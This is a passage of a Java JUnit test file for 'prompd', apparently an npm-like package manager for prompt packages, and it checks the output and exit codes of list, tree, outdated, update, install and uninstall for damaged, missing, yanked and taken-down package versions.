    void listShowsDirectAndTransitivePackages() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        assertEquals("@acme/base@1.0.0\n@acme/util@1.1.0  (transitive)\n", prompd("list").out());
        JsonNode json = Json.reader().readTree(prompd("list", "--json").out());
        assertTrue(json.get(0).get("direct").asBoolean());
        assertFalse(json.get(1).get("direct").asBoolean());
    }

    @Test
    void listAndTreeNameAStoreCopyWhoseManifestCannotBeReadAsDamagedAndInstallReplacesIt() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        Path folder = home.resolve("packages/@acme/util@1.1.0");
        Files.writeString(folder.resolve("prompd.json"), "{\"name\": \"@acme/ut");
        String error = "error: the store's copy of @acme/util@1.1.0 is damaged, with no prompd.json that reads as"
                + " a JSON object: " + folder + "\nhint: run 'prompd install' to replace it\n";

        CliRun list = prompd("list");
        assertEquals(1, list.exitCode(), list.err());
        assertEquals("@acme/base@1.0.0\n@acme/util@1.1.0  (transitive, damaged: run 'prompd install')\n", list.out());
        assertEquals(error, list.err());
        CliRun tree = prompd("tree");
        assertEquals(1, tree.exitCode(), tree.err());
        assertEquals("""
                @me/app@1.0.0
                └── @acme/base@1.0.0 ^1.0.0
                    └── @acme/util@1.1.0 ^1.0.0 (damaged: run 'prompd install')
                """, tree.out());
        assertEquals(error, tree.err());

        CliRun install = prompd("install");
        assertEquals(0, install.exitCode(), install.err());
        CliRun repaired = prompd("list");
        assertEquals(0, repaired.exitCode(), repaired.err());
        assertEquals("@acme/base@1.0.0\n@acme/util@1.1.0  (transitive)\n", repaired.out());
    }

    @Test
    void aGlobalUninstallRemovesAStoreCopyWhoseManifestIsCutShort() throws IOException {
        assertEquals(0, prompd("install", "--global", "@acme/util@1.0.0").exitCode());
        assertEquals(0, prompd("install", "--global", "@acme/util@1.1.0").exitCode());
        Files.writeString(home.resolve("packages/@acme/util@1.1.0/prompd.json"), "{\"name\": \"@acme/ut");

        CliRun named = prompd("uninstall", "--global", "@acme/util@1.1.0");

        assertEquals(0, named.exitCode(), named.err());
        assertEquals("removed @acme/util@1.1.0\n", named.out());
        assertFalse(Files.exists(home.resolve("packages/@acme/util@1.1.0"), LinkOption.NOFOLLOW_LINKS));
        assertEquals("@acme/util@1.0.0\n", prompd("list", "--installed").out());
        Files.writeString(home.resolve("packages/@acme/util@1.0.0/prompd.json"), "");
        CliRun all = prompd("uninstall", "--global", "@acme/util");
        assertEquals(0, all.exitCode(), all.err());
        assertEquals("removed @acme/util@1.0.0\n", all.out(), "the name alone takes damaged copies too");
    }

    @Test
    void listAndTreeMarkALockedVersionTheStoreLacksAndExit1AsNpmLsDoes() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        assertEquals(0, prompd("uninstall", "--global", "@acme/util@1.1.0").exitCode());
        String error = "error: prompd.lock locks @acme/util@1.1.0, not installed in " + home.resolve("packages") + "\n"
                + "hint: run 'prompd install' to install it (should its registry have taken it down since, install"
                + " says so, and how to move off it)\n";

        CliRun list = prompd("list");
        assertEquals(1, list.exitCode(), "a script checking the project notices");
        assertEquals("@acme/base@1.0.0\n@acme/util@1.1.0  (transitive, not installed: run 'prompd install')\n",
                list.out());
        assertEquals(error, list.err());
        CliRun listJson = prompd("list", "--json");
        assertEquals(1, listJson.exitCode());
        assertFalse(Json.reader().readTree(listJson.out()).get(1).get("installed").asBoolean());
        CliRun tree = prompd("tree");
        assertEquals(1, tree.exitCode());
        assertEquals("""
                @me/app@1.0.0
                └── @acme/base@1.0.0 ^1.0.0
                    └── @acme/util@1.1.0 ^1.0.0 (not installed: run 'prompd install')
                """, tree.out());
        assertEquals(error, tree.err());
        JsonNode treeJson = Json.reader().readTree(prompd("tree", "--json").out());
        assertTrue(treeJson.at("/dependencies/0/installed").asBoolean());
        assertFalse(treeJson.at("/dependencies/0/dependencies/0/installed").asBoolean());
        CliRun dot = prompd("tree", "--dot");
        assertEquals(1, dot.exitCode());
        assertEquals("""
                digraph dependencies {
                  node [shape=box];
                  "@acme/util@1.1.0" [label="@acme/util@1.1.0\\nnot installed", color=red, fontcolor=red, style=dashed];
                  "@me/app@1.0.0" -> "@acme/base@1.0.0" [label="^1.0.0"];
                  "@acme/base@1.0.0" -> "@acme/util@1.1.0" [label="^1.0.0"];
                }
                """, dot.out());

        assertEquals(0, prompd("install").exitCode());
        assertEquals(0, prompd("list").exitCode());
        assertEquals(0, prompd("tree").exitCode());
        assertFalse(prompd("tree", "--dot").out().contains("color=red"), "nothing left to mark");
    }

    @Test
    void listAndTreeExit1WhenADependencyOfPrompdJsonIsNotLocked() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        editDependencies("\"@acme/util\": \"^1.0.0\", \"@acme/greeter\": \"^1.0.0\"");
        String error = "error: prompd.lock lacks @acme/greeter of prompd.json's dependencies\n"
                + "hint: run 'prompd install' to lock and install it\n";

        CliRun list = prompd("list");
        assertEquals(1, list.exitCode());
        assertEquals("@acme/greeter ^1.0.0  (not locked: run 'prompd install')\n@acme/util@1.1.0\n", list.out(),
                "listed, as npm ls lists a missing dependency");
        assertEquals(error, list.err());
        CliRun listJson = prompd("list", "--json");
        assertEquals(1, listJson.exitCode());
        assertEquals(Json.reader().readTree("[{\"name\":\"@acme/greeter\",\"range\":\"^1.0.0\",\"direct\":true,"
                + "\"needed\":true,\"locked\":false},{\"name\":\"@acme/util\",\"version\":\"1.1.0\",\"direct\":true,"
                + "\"needed\":true,\"locked\":true,\"installed\":true,\"invalid\":false,\"otherBytes\":false}]"),
                Json.reader().readTree(listJson.out()));
        CliRun tree = prompd("tree");
        assertEquals(1, tree.exitCode());
        assertEquals("""
                @me/app@1.0.0
                ├── @acme/greeter ^1.0.0 (not locked: run 'prompd install')
                └── @acme/util@1.1.0 ^1.0.0
                """, tree.out());
        assertEquals(error, tree.err());
        CliRun dot = prompd("tree", "--dot");
        assertEquals(1, dot.exitCode());
        assertTrue(dot.out().contains("  \"@acme/greeter\" [label=\"@acme/greeter\\nnot locked\", color=red, fontcolor=red,"
                + " style=dashed];\n"), dot.out());
        assertEquals(dot.out(), prompd("tree", "--dot").out(), "the same every time");
    }

    @Test
    void aProjectNeverInstalledListsEveryDependencyAsNotLockedAndExits1AsNpmLsDoes() throws IOException {
        editDependencies("\"@acme/util\": \"^1.0.0\", \"@acme/base\": \"^1.0.0\"");
        String error = "error: there is no prompd.lock in " + project + " to lock @acme/base and @acme/util of"
                + " prompd.json's dependencies\nhint: run 'prompd install' to lock and install them\n";

        CliRun list = prompd("list");
        assertEquals(1, list.exitCode(), list.err());
        assertEquals("@acme/base ^1.0.0  (not locked: run 'prompd install')\n"
                + "@acme/util ^1.0.0  (not locked: run 'prompd install')\n", list.out());
        assertEquals(error, list.err());
        CliRun tree = prompd("tree");
        assertEquals(1, tree.exitCode(), tree.err());
        assertEquals("""
                @me/app@1.0.0
                ├── @acme/base ^1.0.0 (not locked: run 'prompd install')
                └── @acme/util ^1.0.0 (not locked: run 'prompd install')
                """, tree.out());
        assertEquals(error, tree.err());

        editDependencies("");
        CliRun nothing = prompd("list");
        assertEquals(0, nothing.exitCode(), "nothing to lock: " + nothing.err());
        assertEquals("", nothing.out() + nothing.err());
    }

    @Test
    void listMarksALockedPackageNothingNeedsAnyMoreAndExits1AsNpmLsDoes() throws IOException {
        assertEquals(0, prompd("install", "@acme/base", "@acme/greeter").exitCode());
        editDependencies("\"@acme/base\": \"^1.0.0\"");

        CliRun list = prompd("list");

        assertEquals(1, list.exitCode(), list.err());
        assertEquals("@acme/base@1.0.0\n@acme/greeter@1.0.0  (not needed: 'prompd install' removes it)\n"
                + "@acme/util@1.1.0  (transitive)\n", list.out());
        assertEquals("error: prompd.lock locks @acme/greeter@1.0.0, which nothing in prompd.json needs\n"
                + "hint: run 'prompd install' to remove it from prompd.lock\n", list.err());
        assertEquals(1, prompd("tree").exitCode());
        assertFalse(Json.reader().readTree(prompd("list", "--json").out()).get(1).get("needed").asBoolean());
    }

    @Test
    void treeDrawsTheGraphAsTextJsonAndDot() throws IOException {
        assertEquals(0, prompd("install", "@acme/greeter").exitCode());

        assertEquals("""
                @me/app@1.0.0
                └── @acme/greeter@1.0.0 ^1.0.0
                    ├── @acme/base@1.0.0 ^1.0.0
                    │   └── @acme/util@1.1.0 ^1.0.0
                    └── @acme/util@1.1.0 ^1.0.0
                """, prompd("tree").out());

        JsonNode json = Json.reader().readTree(prompd("tree", "--json").out());
        assertEquals("@acme/util", json.at("/dependencies/0/dependencies/0/dependencies/0/name").asText());

        String dot = prompd("tree", "--dot").out();
        assertTrue(dot.startsWith("digraph dependencies {\n"), dot);
        assertTrue(dot.contains("  \"@acme/base@1.0.0\" -> \"@acme/util@1.1.0\" [label=\"^1.0.0\"];\n"), dot);
        assertEquals(2, prompd("tree", "--json", "--dot").exitCode(), "one format at a time");
        assertTrue(prompd("tree", "--help").out().contains(" [--json | --dot]\n"), "and the synopsis says so");
    }

    @Test
    void outdatedShowsCurrentWantedAndLatestAndExits1AsNpmOutdatedDoes() throws IOException {
        assertEquals(0, prompd("install", "@acme/base@^1.0.0").exitCode());
        CliRun current = prompd("outdated");
        registry.publish("@acme/util", "1.2.0").publish("@acme/util", "2.0.0").publish("@acme/base", "2.0.0");

        CliRun run = prompd("outdated");

        assertEquals(0, current.exitCode(), current.err());
        assertEquals("every package is up to date\n", current.out());
        assertEquals(1, run.exitCode(), run.err());
        assertEquals("""
                package     current  wanted  latest  dependency
                @acme/base  1.0.0    1.0.0   2.0.0   direct
                @acme/util  1.1.0    1.2.0   2.0.0   transitive
                """, run.out());
        JsonNode json = Json.reader().readTree(prompd("outdated", "--json").out());
        assertEquals("1.2.0", json.get(1).get("wanted").asText());
    }

    @Test
    void theLatestTagBehindTheHighestVersionIsWhatANameAloneInstallsAndWhatUpdateAndOutdatedWant() throws IOException {
        // the maintainers moved latest back from 1.1.0, as one rolls back a bad release
        registry.tag("@acme/util", "latest", "1.0.0");

        CliRun global = prompd("install", "--global", "@acme/base");
        assertEquals(0, global.exitCode(), global.err());
        assertTrue(global.out().endsWith("+ @acme/util@1.0.0\n"), "a dependency's tag too: " + global.out());
        CliRun install = prompd("install", "@acme/util");
        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.out().startsWith("saved @acme/util ^1.0.0 in prompd.json\n"), install.out());
        assertTrue(install.out().contains("+ @acme/util@1.0.0\n"), "as npm installs dist-tags.latest: " + install.out());

        registry.tag("@acme/util", "latest", "1.1.0");
        assertEquals("""
                package     current  wanted  latest  dependency
                @acme/util  1.0.0    1.1.0   1.1.0   direct
                """, prompd("outdated").out());
        assertTrue(prompd("update").out().contains("@acme/util 1.0.0 -> 1.1.0"));

        registry.tag("@acme/util", "latest", "1.0.0");
        assertEquals("""
                package     current  wanted  latest  dependency
                @acme/util  1.1.0    1.0.0   1.0.0   direct
                """, prompd("outdated").out(), "update moves back with the tag, as npm's does");
        CliRun back = prompd("update");
        assertEquals(0, back.exitCode(), back.err());
        assertTrue(back.out().contains("@acme/util 1.1.0 -> 1.0.0"), back.out());
        assertEquals("every package is up to date\n", prompd("outdated").out());
    }

    @Test
    void outdatedListsADependencyNotLockedYetAsNpmListsAMissingOne() throws IOException {
        registry.publish("@acme/base", "2.0.0");
        editDependencies("\"@acme/util\": \"^1.0.0\", \"@acme/base\": \"^1.0.0\"");
        CliRun neverInstalled = prompd("outdated");
        editDependencies("");
        assertEquals(0, prompd("install", "@acme/util@^1.0.0").exitCode());
        editDependencies("\"@acme/util\": \"^1.0.0\", \"@acme/base\": \"^1.0.0\"");

        CliRun run = prompd("outdated");

        assertEquals(1, neverInstalled.exitCode(), neverInstalled.err());
        assertEquals("""
                package     current     wanted  latest  dependency
                @acme/base  not locked  1.0.0   2.0.0   direct
                @acme/util  not locked  1.1.0   1.1.0   direct
                """, neverInstalled.out(), "with no prompd.lock, every dependency is one not locked yet");
        assertEquals(1, run.exitCode(), run.err());
        assertEquals("""
                package     current     wanted  latest  dependency
                @acme/base  not locked  1.0.0   2.0.0   direct
                """, run.out());
        JsonNode json = Json.reader().readTree(prompd("outdated", "--json").out());
        assertEquals(1, json.size());
        assertFalse(json.get(0).has("current"), json.toString());
        assertEquals("1.0.0", json.get(0).get("wanted").asText());
        assertEquals("2.0.0", json.get(0).get("latest").asText());
        assertFalse(json.get(0).get("takenDown").asBoolean(), json.toString());
    }

    @Test
    void aLockedVersionOutsideTheRangeOfAnEditedManifestIsInvalidToOutdatedListAndTree() throws IOException {
        registry.publish("@acme/util", "2.0.0");
        assertEquals(0, prompd("install", "@acme/util@^2.0.0").exitCode());
        editDependencies("\"@acme/util\": \"^1.0.0\"");

        CliRun outdated = prompd("outdated");
        assertEquals(1, outdated.exitCode(), outdated.err());
        assertEquals("""
                package     current          wanted  latest  dependency
                @acme/util  2.0.0 (invalid)  1.1.0   2.0.0   direct
                """, outdated.out());
        JsonNode row = Json.reader().readTree(prompd("outdated", "--json").out()).get(0);
        assertEquals("2.0.0", row.get("current").asText());
        assertEquals("1.1.0", row.get("wanted").asText());
        assertTrue(row.get("invalid").asBoolean(), row.toString());

        String error = "error: prompd.lock does not match prompd.json: @acme/util@2.0.0 is outside ^1.0.0\n"
                + "hint: run 'prompd install' to lock versions within the ranges\n";
        CliRun list = prompd("list");
        assertEquals(1, list.exitCode(), "as npm ls exits 1");
        assertEquals("@acme/util@2.0.0  (invalid: outside ^1.0.0, run 'prompd install')\n", list.out());
        assertEquals(error, list.err());
        CliRun listJson = prompd("list", "--json");
        assertEquals(1, listJson.exitCode());
        assertTrue(Json.reader().readTree(listJson.out()).get(0).get("invalid").asBoolean(), listJson.out());

        CliRun tree = prompd("tree");
        assertEquals(1, tree.exitCode());
        assertEquals("""
                @me/app@1.0.0
                └── @acme/util@2.0.0 ^1.0.0 (invalid: outside ^1.0.0, run 'prompd install')
                """, tree.out());
        assertEquals(error, tree.err());
        CliRun treeJson = prompd("tree", "--json");
        assertEquals(1, treeJson.exitCode());
        assertTrue(Json.reader().readTree(treeJson.out()).at("/dependencies/0/invalid").asBoolean(), treeJson.out());
        CliRun dot = prompd("tree", "--dot");
        assertEquals(1, dot.exitCode());
        assertTrue(dot.out().contains("  \"@acme/util@2.0.0\" [label=\"@acme/util@2.0.0\\ninvalid: outside ^1.0.0\","
                + " color=red, fontcolor=red];\n"), dot.out());

        assertEquals(0, prompd("install").exitCode());
        CliRun fixed = prompd("list", "--json");
        assertEquals(0, fixed.exitCode(), fixed.err());
        assertFalse(Json.reader().readTree(fixed.out()).get(0).get("invalid").asBoolean(), fixed.out());
        assertEquals(0, prompd("tree").exitCode());
    }

    @Test
    void outdatedListsAndWarnsOfALockedPackageTheRegistryNoLongerHas() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        Files.move(registry.root().resolve("packages/@acme/util"), work.resolve("taken-down"));

        CliRun run = prompd("outdated");

        assertEquals(1, run.exitCode(), "as for a version taken down: " + run.err());
        assertEquals("""
                package     current  wanted  latest  dependency
                @acme/util  1.1.0    -       -       transitive
                """, run.out());
        assertEquals("warning: @acme/util@1.1.0 is locked in prompd.lock, but registry " + server.url() + " no longer"
                + " has @acme/util (no version of @acme/util is left to download, and packages of the project ask for"
                + " ^1.0.0; a newer version of those may not ('prompd tree' shows them))\n", run.err(),
                "whether it is installed is not outdated's to say");
    }

    @Test
    void outdatedWarnsOfALockedVersionYankedOrDeprecatedSinceItWasInstalled() {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.yank("@acme/util", "1.1.0", "typo in the prompt").deprecate("@acme/base", "1.0.0", "use @acme/core");

        CliRun run = prompd("outdated");

        // the yanked version is a row, wanted away from, so outdated exits 1 as npm outdated does
        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("@acme/util"), run.out());
        assertEquals("""
                warning: @acme/base@1.0.0 is deprecated: use @acme/core
                warning: @acme/util@1.1.0 is yanked: typo in the prompt ('prompd update @acme/util' moves off it)
                """, run.err());
    }

    @Test
    void outdatedCallsALockedVersionGoneWithoutARecordNoLongerListedNotTakenDown() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.publish("@acme/util", "2.0.0").unlist("@acme/util", "1.1.0");

        CliRun run = prompd("outdated", "--json");

        assertEquals(1, run.exitCode(), run.err());
        JsonNode row = Json.reader().readTree(run.out()).get(0);
        assertEquals("1.0.0", row.get("wanted").asText());
        assertFalse(row.get("takenDown").asBoolean(), row.toString());
        assertTrue(run.err().startsWith("warning: @acme/util@1.1.0 is no longer listed by its registry"), run.err());
        assertFalse(prompd("outdated").out().contains("taken down"));
    }

    @Test
    void aLockedVersionTakenDownInstalledFromTheCacheIsWarnedOfWithTheReasonAndTheWayOff() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.takeDown("@acme/util", "1.1.0", "leaked an API key");
        Folders.deleteRecursively(home.resolve("packages/@acme/util@1.1.0"));

        CliRun run = prompd("install");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().contains("1 from the cache"), run.out());
        assertEquals("warning: @acme/util@1.1.0 is taken down: leaked an API key (installed from the copy at hand because"
                + " the lock file pins it; it can no longer be downloaded; 'prompd update @acme/util' moves off it)\n",
                run.err());
        CliRun installed = prompd("install");
        assertEquals(0, installed.exitCode(), installed.err());
        assertEquals("", installed.err(), "with every locked version installed the registry is asked nothing");
    }

    @Test
    void oneVersionTakenDownAndTheOtherYankedAreEachSaidSoWithTheirReasonsAndNoWiderRangeOffered() throws IOException {
        registry.publish("@acme/notes", "1.0.0").publish("@acme/notes", "1.1.0");
        assertEquals(0, prompd("install", "@acme/notes@~1.0.0").exitCode());
        registry.takeDown("@acme/notes", "1.0.0", "Leaked a key.").yank("@acme/notes", "1.1.0", "Broken.");
        Path manifest = project.resolve("prompd.json");
        Files.writeString(manifest, Files.readString(manifest).replace("~1.0.0", "^1.0.0"));

        CliRun outdated = prompd("outdated");

        assertEquals(1, outdated.exitCode(), outdated.err());
        assertEquals("warning: @acme/notes@1.0.0 is taken down: Leaked a key. (it can no longer be downloaded; every other"
                + " version that meets ^1.0.0 is yanked (1.1.0: Broken.), and no version of it is left that is not"
                + " yanked: remove the dependency with 'prompd uninstall @acme/notes')\n", outdated.err());

        CliRun install = prompd("install", "--global", "@acme/notes");

        assertEquals(3, install.exitCode(), install.err());
        assertEquals("error: every version of @acme/notes is yanked (1.1.0: Broken.) or taken down (1.0.0: Leaked a"
                + " key.)\nhint: none can be installed anew: a yanked version is used only where a prompd.lock pins it"
                + " already; choose another package, or ask its maintainers for a new release\n", install.err());
    }

    @Test
    void outdatedWarnsOfALockedVersionTakenDownAndWantsTheNewestLeft() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.publish("@acme/util", "2.0.0").takeDown("@acme/util", "1.1.0", "leaked an API key");

        CliRun run = prompd("outdated");

        assertEquals(1, run.exitCode(), run.err());
        assertEquals("""
                package     current             wanted  latest  dependency
                @acme/util  1.1.0 (taken down)  1.0.0   2.0.0   transitive
                """, run.out());
        assertEquals("warning: @acme/util@1.1.0 is taken down: leaked an API key (it can no longer be downloaded;"
                + " 'prompd update @acme/util' moves off it)\n", run.err());
        JsonNode row = Json.reader().readTree(prompd("outdated", "--json").out()).get(0);
        assertEquals("1.0.0", row.get("wanted").asText());
        assertTrue(row.get("takenDown").asBoolean(), row.toString());
        assertFalse(row.get("invalid").asBoolean(), row.toString());

        CliRun update = prompd("update", "@acme/util");
        assertEquals(0, update.exitCode(), update.err());
        assertTrue(update.out().contains("~ @acme/util 1.1.0 -> 1.0.0\n"), update.out());
        assertEquals("", prompd("outdated").err());
    }

    @Test
    void updateLatestLeavesARangeWithNoUpperBoundAsItIsAndStillMovesItsVersionWhateverTheResolution()
            throws IOException {
        registry.publish("@acme/other", "1.0.0").publish("@acme/third", "1.0.0");
        assertEquals(0, prompd("install", "@acme/util@>=1.0.0", "@acme/other@*", "@acme/third@>=1.0.0 <2").exitCode());
        registry.publish("@acme/util", "2.0.0").publish("@acme/other", "2.0.0").publish("@acme/third", "2.0.0");

        CliRun update = prompd("update", "--latest", "--resolution", "lowest");

        assertEquals(0, update.exitCode(), update.err());
        String manifest = Files.readString(project.resolve("prompd.json"));
        assertTrue(manifest.contains("\"@acme/util\": \">=1.0.0\"") && manifest.contains("\"@acme/other\": \"*\""),
                manifest);
        assertTrue(manifest.contains("\"@acme/third\": \"^2.0.0\""), "a bounded range still moves: " + manifest);
        JsonNode locked = Json.reader().readTree(Files.readAllBytes(project.resolve("prompd.lock"))).get("packages");
        for (String name : List.of("@acme/util", "@acme/other", "@acme/third")) {
            assertEquals("2.0.0", locked.get(name).get("version").asText(), name);
        }
    }

    @Test
    void updateLatestKeepsARangeWhoseLatestVersionATakedownFurtherDownKeepsOutAndSaysWhy() throws IOException {
        registry.publish("@acme/tk", "1.0.0").publish("@acme/tk", "1.2.0").publish("@acme/needtk", "1.0.0")
                .publish("@acme/other", "1.0.0");
        assertEquals(0, prompd("install", "@acme/needtk@^1.0.0", "@acme/other@^1.0.0").exitCode());
        registry.publish("@acme/needtk", "1.1.0", "@acme/tk", ">=1.2.0")
                .publish("@acme/needtk", "2.0.0", "@acme/tk", ">=1.2.0").publish("@acme/other", "2.0.0")
                .takeDown("@acme/tk", "1.2.0", "leaked a key");

        CliRun update = prompd("update", "--latest");

        assertEquals(0, update.exitCode(), update.err());
        assertEquals("warning: kept @acme/needtk ^1.0.0: its latest version, 2.0.0, cannot be installed now, as it needs"
                + " @acme/tk >=1.2.0, which only versions taken down meet (wait for a release of @acme/needtk needing"
                + " another)\nwarning: @acme/needtk 1.1.0 cannot be installed now, as it needs @acme/tk >=1.2.0, which"
                + " only versions taken down meet, so 1.0.0 is the newest version its ranges allow that can be (wait for"
                + " a release of @acme/needtk needing another)\n", update.err());
        String manifest = Files.readString(project.resolve("prompd.json"));
        assertTrue(manifest.contains("\"@acme/needtk\": \"^1.0.0\"") && manifest.contains("\"@acme/other\": \"^2.0.0\""),
                "the others still move: " + manifest);
    }

    @Test
    void updateLatestResolvesAnUnboundedRangeWhoseLatestATakedownKeepsOutFromTheHighestThatCanBeWhateverTheResolution()
            throws IOException {
        registry.publish("@acme/tk", "1.0.0").publish("@acme/tk", "1.2.0").publish("@acme/needtk", "1.0.0")
                .publish("@acme/needtk", "1.1.0").publish("@acme/needtk", "1.2.0", "@acme/tk", ">=1.2.0")
                .takeDown("@acme/tk", "1.2.0", "leaked a key");
        editDependencies("\"@acme/needtk\": \"*\"");
        assertEquals(0, prompd("install").exitCode());

        CliRun update = prompd("update", "--latest", "--resolution", "lowest");

        assertEquals(0, update.exitCode(), update.err());
        assertTrue(update.out().contains("prompd.lock unchanged"), "never back from 1.1.0: " + update.out());
        assertTrue(update.err().contains("so 1.1.0 is the newest version its ranges allow that can be"), update.err());
        assertTrue(Files.readString(project.resolve("prompd.json")).contains("\"@acme/needtk\": \"*\""));
    }

    @Test
    void updateLatestNeverMovesAChosenPreReleaseBackToAnOlderLatest() throws IOException {
        registry.publish("@acme/util", "2.0.0-beta.1").publish("@acme/other", "1.0.0");
        assertEquals(0, prompd("install", "@acme/util@^2.0.0-beta.1", "@acme/other@1.0.0").exitCode());
        registry.publish("@acme/other", "1.1.0");

        CliRun update = prompd("update", "--latest");

        assertEquals(0, update.exitCode(), update.err());
        assertEquals("warning: kept @acme/util ^2.0.0-beta.1: its latest version, 1.1.0, is older than the locked"
                + " 2.0.0-beta.1\n", update.err());
        String manifest = Files.readString(project.resolve("prompd.json"));
        assertTrue(manifest.contains("\"@acme/util\": \"^2.0.0-beta.1\""), manifest);
        assertTrue(manifest.contains("\"@acme/other\": \"^1.1.0\""), "the others still move: " + manifest);
    }

    @Test
    void updateLatestFollowsTheLatestTagBackDownWhereTheRangeAllowsItAndKeepsOnlyWhatItSaysItKeeps()
            throws IOException {
        registry.publish("@acme/util", "1.2.0").publish("@acme/other", "1.0.0");
        assertEquals(0, prompd("install", "@acme/util@^1.0.0", "@acme/other@^1.0.0").exitCode());
        // the maintainers moved latest back from a bad 1.2.0, which the range allows and the lock pins
        registry.tag("@acme/util", "latest", "1.1.0").publish("@acme/other", "1.2.0");
        editDependencies("\"@acme/util\": \"^1.0.0\", \"@acme/other\": \"^1.2.0\"");
        assertEquals(0, prompd("install").exitCode());
        registry.tag("@acme/other", "latest", "1.0.0");

        CliRun update = prompd("update", "--latest");

        assertEquals(0, update.exitCode(), update.err());
        assertEquals("warning: kept @acme/other ^1.2.0: its latest version, 1.0.0, is older than the locked 1.2.0\n",
                update.err(), "said only of the range the latest version is outside of");
        assertTrue(update.out().contains("~ @acme/util 1.2.0 -> 1.1.0"), "as 'prompd update' follows the tag: "
                + update.out());
        assertFalse(update.out().contains("@acme/other 1.2.0 ->"), "kept as said: " + update.out());
        String manifest = Files.readString(project.resolve("prompd.json"));
        assertTrue(manifest.contains("\"@acme/util\": \"^1.1.0\"") && manifest.contains("\"@acme/other\": \"^1.2.0\""),
                manifest);
    }

    @Test
    void updateAndUninstallSayHowTheLockChanged() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.publish("@acme/util", "1.2.0");
        assertEquals(0, prompd("install", "--global", "@acme/util").exitCode());

        CliRun update = prompd("update");
        assertEquals(0, update.exitCode(), update.err());
        assertEquals("""
                2 packages: 0 downloaded, 0 from the cache, 2 already installed
                prompd.lock written:
                  ~ @acme/util 1.1.0 -> 1.2.0
                """, update.out(), "the move shows although the new version was in the store already");

        CliRun uninstall = prompd("uninstall", "acme/base", "--json");
        assertEquals(0, uninstall.exitCode(), uninstall.err());
        JsonNode changes = Json.reader().readTree(uninstall.out()).get("lockChanges");
        assertEquals("[{\"before\":\"1.0.0\",\"differing\":[],\"name\":\"@acme/base\"},"
                + "{\"before\":\"1.2.0\",\"differing\":[],\"name\":\"@acme/util\"}]",
                changes.toString());
        assertEquals("", prompd("list").out());
    }

    @Test
    void prompdLockKeepsItsLineEndingsAndANewOneTakesThoseOfPrompdJson() throws IOException {
        Files.writeString(project.resolve("prompd.json"), "{\r\n  \"name\": \"@me/app\",\r\n  \"version\": \"1.0.0\"\r\n}\r\n");
        Path lock = project.resolve("prompd.lock");

        assertEquals(0, prompd("install", "@acme/util@^1.0.0").exitCode());
        String created = Files.readString(lock);
        Files.writeString(lock, created.replace("\r\n", "\n"));
        assertEquals(0, prompd("install", "@acme/base@^1.0.0").exitCode());

        assertTrue(created.endsWith("}\r\n") && !created.replace("\r\n", "").contains("\n"), created);
        String changed = Files.readString(lock);
        assertTrue(changed.contains("@acme/base") && !changed.contains("\r"), changed);
    }

    @Test
    void installAndUninstallChangeTheDependenciesOfPrompdJsonAndNotOneOtherByte() throws IOException {
        String handWritten = "{\r\n    \"version\": \"1.0.0\",\r\n    \"name\": \"@me/app\",\r\n"
                + "    \"keywords\": [\"b\", \"a\"],\r\n    \"x-team\": \"search\"\r\n}\r\n";
        Files.writeString(project.resolve("prompd.json"), handWritten);

        assertEquals(0, prompd("install", "@acme/util").exitCode());
        assertEquals(handWritten.replace("\"x-team\": \"search\"\r\n", "\"x-team\": \"search\",\r\n"
                + "    \"dependencies\": {\r\n        \"@acme/util\": \"^1.1.0\"\r\n    }\r\n"),
                Files.readString(project.resolve("prompd.json")));

        assertEquals(0, prompd("uninstall", "@acme/util").exitCode());
        assertEquals(handWritten.replace("\"x-team\": \"search\"\r\n", "\"x-team\": \"search\",\r\n"
                + "    \"dependencies\": {}\r\n"), Files.readString(project.resolve("prompd.json")), "as npm leaves it");
    }

    @Test
    void installingADependencyAgainAtItsRangeSavesNothing() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());

        CliRun again = prompd("install", "@acme/util@^1.1.0");

        assertEquals(0, again.exitCode(), again.err());
        assertEquals("1 package: 0 downloaded, 0 from the cache, 1 already installed\nprompd.lock unchanged\n", again.out());
    }

    @Test
    void aPackageWithNothingToChooseByNameSaysWhatToAskFor() {
        registry.publish("@acme/early", "0.1.0-beta.1").publish("@acme/early", "0.1.0-beta.2")
                .publish("@acme/gone", "1.0.0").yank("@acme/gone", "1.0.0", "leaked a key");

        CliRun early = prompd("install", "@acme/early");
        assertEquals(3, early.exitCode(), early.err());
        assertEquals("error: @acme/early has only pre-release versions, which are installed only when asked for\n"
                + "hint: ask for one, as in 'prompd install @acme/early@0.1.0-beta.2'\n", early.err());

        CliRun gone = prompd("install", "@acme/gone");
        assertEquals(3, gone.exitCode(), gone.err());
        assertEquals("error: every version of @acme/gone is yanked (1.0.0: leaked a key)\nhint: none can be installed"
                + " anew: a yanked version is used only where a prompd.lock pins it already; choose another package, or"
                + " ask its maintainers for a new release\n", gone.err());
        assertTrue(prompd("info", "@acme/early").out().contains("\ndist-tags: none\n"), "no tag points at a pre-release");

        registry.publish("@acme/mixed", "1.0.0").yank("@acme/mixed", "1.0.0", "broken")
                .publish("@acme/mixed", "2.0.0-rc.1");
        CliRun mixed = prompd("install", "@acme/mixed");
        assertEquals(3, mixed.exitCode(), mixed.err());
        assertEquals("error: every release of @acme/mixed is yanked, and its other versions are pre-releases, which are"
                + " installed only when asked for\nhint: ask for one, as in 'prompd install @acme/mixed@2.0.0-rc.1';"
                + " 'prompd info @acme/mixed' says why the releases are yanked\n", mixed.err());
        CliRun global = prompd("install", "--global", "@acme/early");
        assertEquals(3, global.exitCode(), global.err());
        assertTrue(global.err().endsWith("hint: ask for one, as in 'prompd install --global @acme/early@0.1.0-beta.2'\n"),
                "the offered install keeps --global: " + global.err());
        CliRun untagged = prompd("install", "@acme/early@latest");
        assertEquals(3, untagged.exitCode(), untagged.err());
        assertEquals("error: @acme/early has no dist-tag 'latest'\nhint: it has no dist-tags: ask for a version or a"
